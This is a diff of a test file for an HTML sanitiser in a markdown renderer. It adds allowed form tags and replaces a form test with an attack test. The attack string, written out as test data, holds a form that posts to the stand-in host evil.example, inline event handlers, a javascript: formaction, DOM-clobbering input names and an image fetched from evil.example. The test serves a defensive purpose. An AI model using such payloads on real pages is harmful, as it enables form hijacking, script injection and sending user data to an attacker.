@@ -4,10 +4,11 @@ import { ATTACKS, BOMBS } from './hostile';
 import { test } from './serve';
 
 const TAGS =
-  'a abbr b bdi bdo blockquote br button caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h3 h4 h5 h6 hr i img ins kbd li mark ol p path pre q rp rt ruby s samp small span strike strong sub summary sup svg table tbody td tfoot th thead time tr tt u ul var wbr';
+  'a abbr b bdi audio bdo blockquote br button caption cite code col colgroup dd del details dfn div dl dt em figcaption figure form h3 h4 h5 h6 hr i img input ins kbd label li mark ol option p path pre q rp rt ruby s samp select small span strike strong sub summary sup svg table tbody td tfoot textarea th thead time tr tt u ul var video wbr';
 const ATTRIBUTES =
-  'align alt aria-hidden aria-label cite class colspan d data-language data-level data-loose data-send data-state datetime decoding dir height href lang loading open referrerpolicy rel reversed role rowspan scope src start tabindex target title type viewBox width';
-const CLASSES = 'abbr code code-head copy formula image image-hold table task';
+  'align alt aria-hidden aria-label aria-required autocomplete checked cite class colspan controls d data-format data-kind data-language data-level data-loose data-name data-send data-size data-state data-title data-variant datetime decoding dir for height hidden href id lang loading novalidate open placeholder playsinline preload referrerpolicy rel reversed role rows rowspan scope selected src start step tabindex target title type value viewBox width';
+const CLASSES =
+  'abbr ask-button ask-control ask-error ask-field ask-form ask-label ask-note code code-head copy formula icon image image-hold player table task';
 
 test('no text runs code, leaves the answer or keeps a forbidden tag, attribute or address', async ({
   open,
@@ -36,12 +37,46 @@ test('links open apart from the page and tell nothing to where they lead', async
   expect(html).toContain('href="https://api.example/b"');
 });
 
-test('controls and forms of the text show their words only', async ({ open }) => {
+test('a form of the text is one of ours: it goes nowhere by itself, and nothing in it passes for something else', async ({
+  open,
+}) => {
   const { page } = await open();
-  const html = await page.evaluate(() =>
-    window.harness.html('<form><label>Name</label><input name="x"><button>Send</button></form>'),
-  );
-  expect(html).toBe('NameSend');
+  const attack =
+    '<form action="https://evil.example" method="post" target="_top" id="hit" onsubmit="window.hit=1" data-format="json">' +
+    '<label for="user" onclick="window.hit=1">Name</label><input name="user" autofocus formaction="javascript:window.hit=1" list="x">' +
+    '<input name="action" value="x"><input name="__proto__" value="x"><input name="a b" value="x"><input value="x">' +
+    '<input type="file" name="file"><input type="image" src="https://evil.example/x.png" name="image">' +
+    '<form action="https://evil.example"></form><button formaction="https://evil.example" name="submit">Send</button></form>' +
+    '<input name="alone"><textarea name="alone">words</textarea><button>Alone</button>';
+  const found = await page.evaluate((text) => {
+    const box = document.createElement('div');
+    box.id = 'answer-1';
+    document.body.append(box);
+    window.harness.renderMarkdown(box, text, window.harness.makeOptions());
+    const form = box.querySelector('form');
+    box.querySelector('button')?.click();
+    return {
+      forms: box.querySelectorAll('form').length,
+      action: form?.getAttribute('action'),
+      names: [...box.querySelectorAll('[data-name]')].map((element) => element.getAttribute('data-name')),
+      types: [...box.querySelectorAll('input')].map(({ type }) => type),
+      ids: [...box.querySelectorAll('[id]')].map(({ id }) => id),
+      clobbered: [form?.method, typeof form?.submit, form?.target],
+      focused: document.activeElement?.localName,
+      words: box.textContent,
+    };
+  }, attack);
+  expect(found).toEqual({
+    forms: 1,
+    action: null,
+    names: ['user', 'action', 'file', 'image'],
+    types: ['text', 'text', 'text', 'text'],
+    ids: ['answer-1-0', 'answer-1-0-user', 'answer-1-0-action', 'answer-1-0-file', 'answer-1-0-image'],
+    clobbered: ['get', 'function', ''],
+    focused: 'body',
+    words: 'NameSendwordsAlone',
+  });
+  expect(await page.evaluate('window.hit')).toBeUndefined();
 });
 
 test('without HTML, tags are text', async ({ open }) => {
